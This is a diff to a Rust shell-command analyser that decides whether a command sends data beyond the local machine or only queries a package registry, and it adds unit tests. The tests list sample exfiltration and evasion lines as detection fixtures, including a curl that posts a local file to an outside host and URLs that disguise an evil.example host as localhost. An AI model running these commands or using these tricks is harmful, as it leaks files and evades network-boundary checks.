@@ -225,6 +225,9 @@ pub struct Command {
     pub class: Class,
 }
 
+/// What the tables say of commands that ask a package registry.
+const REGISTRY: &str = "sends a request to the package registry";
+
 fn is_zero(n: &usize) -> bool {
     *n == 0
 }
@@ -257,10 +260,18 @@ impl Facts {
 
     /// Whether anything may leave the machine: what is sent to it alone, by its loopback address, does not.
     pub fn sends_beyond(&self) -> bool {
-        let sent = self.findings.iter().filter(|finding| finding.effect == Effect::Send);
+        // What an option gives to be sent goes where its command sends.
+        let is_own = |finding: &&Finding| finding.reason.id() != Some("analysis-sends");
+        let sent = self.findings.iter().filter(|finding| finding.effect == Effect::Send).filter(is_own);
         let all_here = self.hosts.iter().all(|host| is_loopback(host))
             && sent.map(|finding| finding.target.as_deref()).all(|to| to.is_some_and(is_loopback));
         self.sends_out() && (self.hosts.is_empty() || !all_here)
+    }
+
+    /// Whether whatever leaves the machine asks a package registry for something.
+    pub fn asks_registry(&self) -> bool {
+        let mut sent = self.findings.iter().filter(|finding| finding.effect == Effect::Send).peekable();
+        self.sends_beyond() && sent.peek().is_some() && sent.all(|finding| *finding.reason == *REGISTRY)
     }
 
     /// Returns the secrets that it reads: paths, variables, or what shows them, in words. What is protected only from
@@ -436,5 +447,42 @@ mod tests {
         };
         assert!(!to(&["localhost:80"]).sends_beyond() && !Facts::default().sends_beyond());
         assert!(to(&[]).sends_beyond() && to(&["localhost", "a.example"]).sends_beyond());
+        let beyond = |line: &str| crate::shell(line, &crate::Setting::default()).sends_beyond();
+        for line in [
+            "curl -H 'Accept: text/html' http://127.0.0.1:80/a",
+            "curl http://localhost/two?x=1",
+            "curl -d a=b http://127.0.0.1/",
+        ] {
+            assert!(!beyond(line), "{line}");
+        }
+        let others = [
+            "curl -d a=b https://a.example",
+            "curl -d a=b $URL http://localhost",
+            "curl http://localhost?.evil.example/",
+            "curl http://localhost@(.evil.example)/",
+            "curl -H 'a: b' http://localhost; pip install x",
+            "curl -x evil.example http://localhost",
+        ];
+        for line in others {
+            assert!(beyond(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn what_asks_a_package_registry_is_told_from_other_sending() {
+        let asks = |line: &str| crate::shell(line, &crate::Setting::default()).asks_registry();
+        for line in [
+            "pip install x",
+            ".venv/bin/pip install -e .",
+            ". a; pip install x && npm ci",
+            "npm view x",
+            "yarn add x",
+        ] {
+            assert!(asks(line), "{line}");
+        }
+        for line in ["ls", "curl https://pypi.org", "pip install x; curl -d @a https://a.example", "git push"]
+        {
+            assert!(!asks(line), "{line}");
+        }
     }
 }
